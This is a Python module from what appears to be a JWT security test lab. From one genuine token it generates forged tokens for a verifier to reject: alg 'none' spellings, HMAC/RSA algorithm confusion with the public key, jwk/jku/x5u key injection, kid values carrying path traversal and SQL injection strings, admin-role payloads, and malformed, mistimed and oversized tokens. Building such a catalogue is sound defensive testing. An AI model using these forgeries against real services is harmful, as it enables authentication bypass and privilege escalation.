"""The catalogue: every way to show a verifier something that it must not take, made from one genuine token.

Some are signed with the run's own key: what they are about is checked only behind a good signature. Sources: RFC 8725
(JWT best practices), RFC 7515 (JWS), RFC 7519 (JWT), and the attacks that these were written against.
"""

import json
import time
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from jwt.algorithms import RSAAlgorithm, get_default_algorithms

from authdemo.lab.attacks.run_ring import ring_of
from authdemo.lab.attacks.token_text import claims_of, encoded, header_of, hmac_signed, signed
from authdemo.policy import Policy
from jwt_app.key_ring import Key

ALGORITHMS = get_default_algorithms()
REQUIRED = ("iss", "aud", "sub", "name", "role", "ver", "iat", "exp", "jti", "sid", "mode")


@dataclass(frozen=True)
class Forgery:
    """One thing to show the verifier. `token` is what goes into the cookie."""

    group: str
    name: str
    token: str | bytes


@dataclass(frozen=True)
class Workshop:
    """What a forger works with: a genuine token, the run's keys, and an address that must never be asked."""

    token: str
    policy: Policy
    listener: str
    retired: str = ""  # a token that was genuine until its key was dropped

    @property
    def header(self) -> dict[str, Any]:
        return header_of(self.token)

    @property
    def kid(self) -> str:
        return str(self.header.get("kid", ""))

    @property
    def claims(self) -> dict[str, Any]:
        return claims_of(self.token)

    @property
    def parts(self) -> list[str]:
        return self.token.split(".")

    @property
    def key(self) -> Key:
        return ring_of(self.policy).current

    def genuinely(self, header: dict[str, Any] | None = None, **claims: Any) -> str:
        """Signed with the genuine key: other claims, other header."""
        return signed({**self.claims, **claims}, self.key.signing, {**self.header, **(header or {})})

    def raw(self, payload: bytes, header: dict[str, Any] | None = None) -> str:
        """Signed with the genuine key, whatever the payload is."""
        text = f"{encoded({**self.header, **(header or {})})}.{encoded(payload)}"
        algorithm = ALGORITHMS[self.key.algorithm]
        return f"{text}.{encoded(algorithm.sign(text.encode(), algorithm.prepare_key(self.key.signing)))}"

    def unsigned(self, header: dict[str, Any], signature: str = "") -> str:
        """An admin's claims under this header, with this in the signature's place."""
        return f"{encoded(header)}.{encoded({**self.claims, 'role': 'admin'})}.{signature}"


def catalogue(shop: Workshop) -> Iterator[Forgery]:
    """All of them, group by group."""
    for group in (changed, unsigned, confused, foreign_keys, misaddressed, incomplete, mistimed, misshapen, oversized):
        for name, token in group(shop).items():
            yield Forgery((group.__doc__ or "").rstrip("."), name, token)


def changed(shop: Workshop) -> dict[str, str | bytes]:
    """Changed after signing, or the key was."""
    head, payload, signature = shop.parts
    return {
        "payload changed": f"{head}.{encoded({**shop.claims, 'role': 'admin'})}.{signature}",
        "one character of the payload": f"{head}.{_flipped(payload)}.{signature}",
        "one character of the signature": f"{head}.{payload}.{_flipped(signature)}",
        "signed with a key that is gone": shop.retired,
        "header changed": f"{encoded({**shop.header, 'kid': shop.kid + 'x'})}.{payload}.{signature}",
    }


def unsigned(shop: Workshop) -> dict[str, str | bytes]:
    """Not signed at all."""
    spellings = ("none", "None", "NONE", "nOnE", "none ", "")
    tokens: dict[str, str | bytes] = {f"alg {s!r}": shop.unsigned({**shop.header, "alg": s}) for s in spellings}
    tokens["signature left out"] = f"{shop.parts[0]}.{shop.parts[1]}."
    tokens["alg missing"] = shop.unsigned({name: value for name, value in shop.header.items() if name != "alg"})
    tokens["alg none, signature kept"] = shop.unsigned({**shop.header, "alg": "none"}, shop.parts[2])
    tokens["r = s = 0 (ES256)"] = shop.unsigned({**shop.header, "alg": "ES256"}, encoded(bytes(64)))
    return tokens


def confused(shop: Workshop) -> dict[str, str | bytes]:
    """Another algorithm than the key's."""
    admin = {**shop.claims, "role": "admin"}
    tokens: dict[str, str | bytes] = {
        f"alg {other}, signature kept": shop.unsigned({**shop.header, "alg": other}, shop.parts[2])
        for other in ("HS256", "HS384", "HS512", "RS256", "ES256", "EdDSA", "PS256")
        if other != shop.header["alg"]
    }
    tokens["HMAC with an empty secret"] = hmac_signed(admin, b"", {**shop.header, "alg": "HS256"})
    if not isinstance(shop.key.verifying, bytes):
        public = shop.key.verifying.public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
        tokens["HMAC with the public key"] = hmac_signed(admin, public, {**shop.header, "alg": "HS256"})
        tokens["HMAC with the public key, stripped"] = hmac_signed(
            admin, public.strip(), {**shop.header, "alg": "HS256"}
        )
    return tokens


def foreign_keys(shop: Workshop) -> dict[str, str | bytes]:
    """Signed with a key that the token names itself."""
    own = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    jwk = RSAAlgorithm.to_jwk(own.public_key(), as_dict=True)
    admin = {**shop.claims, "role": "admin"}

    def by(header: dict[str, Any]) -> str:
        return signed(admin, own, {**shop.header, "alg": "RS256", **header})

    tokens: dict[str, str | bytes] = {
        "jwk in the header": by({"jwk": jwk}),
        "jku to another server": by({"jku": f"{shop.listener}/jwks.json"}),
        "x5u to another server": by({"x5u": f"{shop.listener}/certificate.pem"}),
        "no kid": by({"kid": "unknown"}),
    }
    for kid in ("../../../../dev/null", "/dev/null", "' OR '1'='1", "x' UNION SELECT 'a", "", "\0", "kid\n"):
        tokens[f"kid {kid!r}"] = hmac_signed(admin, b"", {**shop.header, "kid": kid})
    tokens["kid as a list"] = hmac_signed(admin, b"", {**shop.header, "kid": [shop.kid]})
    tokens["crit"] = shop.genuinely({"crit": ["exp"], "exp": 1})
    tokens["crit naming b64"] = shop.raw(json.dumps(shop.claims).encode(), {"crit": ["b64"], "b64": True})
    tokens["our own key under a kid that is not ours"] = shop.genuinely({"kid": "unknown"})
    nameless = {name: value for name, value in shop.header.items() if name != "kid"}
    tokens["our own key under no kid"] = signed(shop.claims, shop.key.signing, nameless)
    stranger = Key.generate(shop.key.algorithm, "current")
    tokens["a stranger’s key under our kid"] = signed(admin, stranger.signing, shop.header)
    return tokens


def misaddressed(shop: Workshop) -> dict[str, str | bytes]:
    """Signed by us, and not meant for here."""
    return {
        "typ missing": shop.genuinely({"typ": None}),
        "typ JWT": shop.genuinely({"typ": "JWT"}),
        "typ of a refresh token": shop.genuinely({"typ": "rt+jwt"}),
        "aud of the API": shop.genuinely(aud=shop.policy.api_audience),
        "aud as a list": shop.genuinely(aud=[shop.policy.audience]),
        "aud of somebody else": shop.genuinely(aud="https://other.example"),
        "iss of somebody else": shop.genuinely(iss="https://other.example"),
        "mode that is not allowed": shop.genuinely(mode="anything"),
    }


def incomplete(shop: Workshop) -> dict[str, str | bytes]:
    """Signed by us, with something missing."""
    return {
        f"without {name}": signed(
            {other: value for other, value in shop.claims.items() if other != name}, shop.key.signing, shop.header
        )
        for name in REQUIRED
    }


def mistimed(shop: Workshop) -> dict[str, str | bytes]:
    """Signed by us, at no time that could be."""
    now = time.time()
    tokens: dict[str, str | bytes] = {
        "exp in the past": shop.genuinely(iat=now - 10, exp=now - 1),
        "exp as text": shop.genuinely(exp=str(now + 60)),
        "exp as a huge number": shop.raw(_with(shop, b'"exp":1e400')),
        "exp as a number beyond every calendar": shop.genuinely(exp=10**30),
        "exp as true": shop.genuinely(exp=True),
        "exp null": shop.genuinely(exp=None),
        "exp NaN": shop.raw(_with(shop, b'"exp":NaN')),
        "iat in the future": shop.genuinely(iat=now + 3600, exp=now + 7200),
        "nbf in the future": shop.genuinely(nbf=now + 3600),
        "nbf as text": shop.genuinely(nbf="now"),
    }
    return tokens


def misshapen(shop: Workshop) -> dict[str, str | bytes]:
    """Not of the one form a token has."""
    head, payload, signature = shop.parts
    serialized = {"payload": payload, "signatures": [{"protected": head, "signature": signature}]}
    return {
        "two parts": f"{head}.{payload}",
        "four parts": f"{shop.token}.{signature}",
        "five parts (a JWE)": f"{head}..{payload}..{signature}",
        "padding": f"{head}.{payload}.{signature}=",
        "padding in the middle": f"{head}.{payload}==.{signature}",
        "the other base64 alphabet": f"{head}.{payload}.{signature[:-2]}+/",
        "a blank in it": f"{head}. {payload}.{signature}",
        "a line break at its end": f"{shop.token}%0A",
        "JSON serialization": json.dumps(serialized, separators=(",", ":")),
        "duplicate keys in the header": _twice(shop),
        "payload no object": shop.raw(b"[]"),
        "payload no JSON": shop.raw(b"{"),
        "payload no UTF-8": shop.raw(b"\xff\xfe{}"),
        "sub as a number": shop.genuinely(sub=1),
        "sub with foreign digits": shop.genuinely(sub="١"),
        "a session id": "A" * 43,
        "nothing but dots": "..",
        "empty": "",
        "not ASCII": "tökén.tökén.tökén".encode(),
    }


def oversized(shop: Workshop) -> dict[str, str | bytes]:
    """Larger than any token of ours."""
    return {
        "8 KB": shop.genuinely(more="x" * 8192),
        "1 MB": f"{shop.parts[0]}.{'A' * 1_000_000}.{shop.parts[2]}",
        "deeply nested": shop.raw(b'{"a":' * 2000 + b"1" + b"}" * 2000),
    }


def _flipped(part: str) -> str:
    """The same but for one character in its middle, where every bit of it counts."""
    middle = len(part) // 2
    return part[:middle] + ("A" if part[middle] != "A" else "B") + part[middle + 1 :]


def _with(shop: Workshop, member: bytes) -> bytes:
    """The claims as JSON with one member written by hand; the last of two counts for most readers."""
    claims = {name: value for name, value in shop.claims.items() if name != "exp"}
    return json.dumps(claims).encode()[:-1] + b"," + member + b"}"


def _twice(shop: Workshop) -> str:
    """A header that says two algorithms: which one counts depends on the reader (RFC 7515, 4)."""
    header = json.dumps(shop.header)[:-1] + ',"alg":"none"}'
    return f"{encoded(header.encode())}.{encoded({**shop.claims, 'role': 'admin'})}."
